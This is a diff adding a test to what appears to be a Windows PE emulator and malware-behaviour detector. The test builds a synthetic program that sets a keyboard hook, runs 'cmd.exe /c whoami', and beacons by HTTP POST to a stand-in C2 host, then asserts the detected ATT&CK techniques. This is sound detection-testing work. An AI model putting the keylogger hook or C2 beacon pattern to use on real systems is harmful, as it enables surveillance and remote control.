@@ -357,6 +357,63 @@ test('a registry query, and a thread run to its end before the wait on it return
   );
 });
 
+test(
+  'user32, shell32, WinHTTP, crypt32 and the UCRT: a keylogger, a shell command, a beacon, a decoded blob',
+  { skip: NO_UNICORN },
+  () => {
+    const wide = (text: string) => Buffer.from(`${text}\0`, 'utf16le');
+    const program = Buffer.from(
+      pe64Script(
+        {
+          'user32.dll': ['SetWindowsHookExA', 'GetForegroundWindow', 'GetWindowTextA'],
+          'shell32.dll': ['ShellExecuteA'],
+          'winhttp.dll': ['WinHttpOpen', 'WinHttpConnect', 'WinHttpOpenRequest', 'WinHttpSendRequest'],
+          'crypt32.dll': ['CryptStringToBinaryA'],
+          'api-ms-win-crt-stdio-l1-1-0.dll': ['__acrt_iob_func', '__stdio_common_vfprintf'],
+        },
+        [
+          { api: 'SetWindowsHookExA', args: [13, PE_TEXT, 0, 0] },
+          { api: 'GetForegroundWindow', args: [], keep: 0x10 },
+          { api: 'GetWindowTextA', args: [{ load: 0x10 }, { at: 0x500 }, 64] },
+          { api: 'ShellExecuteA', args: [0, 'open', 'cmd.exe', '/c whoami', 0, 0] },
+          { api: 'WinHttpOpen', args: [0, 0, 0, 0, 0], keep: 0x18 },
+          { api: 'WinHttpConnect', args: [{ load: 0x18 }, { at: 0x300 }, 443, 0], keep: 0x20 },
+          { api: 'WinHttpOpenRequest', args: [{ load: 0x20 }, { at: 0x340 }, { at: 0x360 }, 0, 0, 0, 0], keep: 0x28 },
+          { api: 'WinHttpSendRequest', args: [{ load: 0x28 }, 0, 0, 0, 0, 0, 0] },
+          { api: 'CryptStringToBinaryA', args: ['aGVsbG8=', 0, 1, { at: 0x400 }, { at: 0x480 }, 0, 0] },
+          { api: '__acrt_iob_func', args: [1], keep: 0x30 },
+          { api: '__stdio_common_vfprintf', args: [0, { load: 0x30 }, 'x=%d %s %s\n', 0, { at: 0x100 }] },
+        ],
+      ),
+    );
+    // The data page: a va_list (42, then pointers to "hi" and to the decoded bytes), wide strings, a size.
+    const data = 0x3000;
+    program.writeBigUInt64LE(42n, data + 0x100);
+    program.writeBigUInt64LE(BigInt(PE_DATA + 0x200), data + 0x108);
+    program.writeBigUInt64LE(BigInt(PE_DATA + 0x400), data + 0x110);
+    program.write('hi\0', data + 0x200, 'latin1');
+    program.set(wide('c2.example.net'), data + 0x300);
+    program.set(wide('POST'), data + 0x340);
+    program.set(wide('/gate'), data + 0x360);
+    program.writeUInt32LE(63, data + 0x480);
+    const run = runWindowsPe(program, { argv: ['mixed.exe'] });
+    assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(0)' });
+    assert.equal(run.output, 'x=42 hi hello\n');
+    const seen = run.events
+      .filter((e) => e.kind !== 'library-call')
+      .map((e) => `${e.kind} ${e.detail.host ?? e.detail.args ?? ''} ${e.detail.path ?? ''}`);
+    assert.deepEqual(seen, [
+      'process-create cmd.exe /c whoami cmd.exe',
+      'dns-query c2.example.net ',
+      'http-request c2.example.net /gate',
+    ]);
+    const ids = behavioursOf(run.events)
+      .flatMap((b) => b.attack.map((a) => a.id))
+      .sort();
+    assert.deepEqual(ids, ['T1010', 'T1033', 'T1056.001', 'T1059.003', 'T1071.001', 'T1140']);
+  },
+);
+
 test('a PE that cannot be loaded, or is for another CPU, is refused with the reason', { skip: NO_UNICORN }, () => {
   const program = Buffer.from(pe64Script({}, []));
   program.writeUInt32LE(0xffff_ffff, 0x3c);
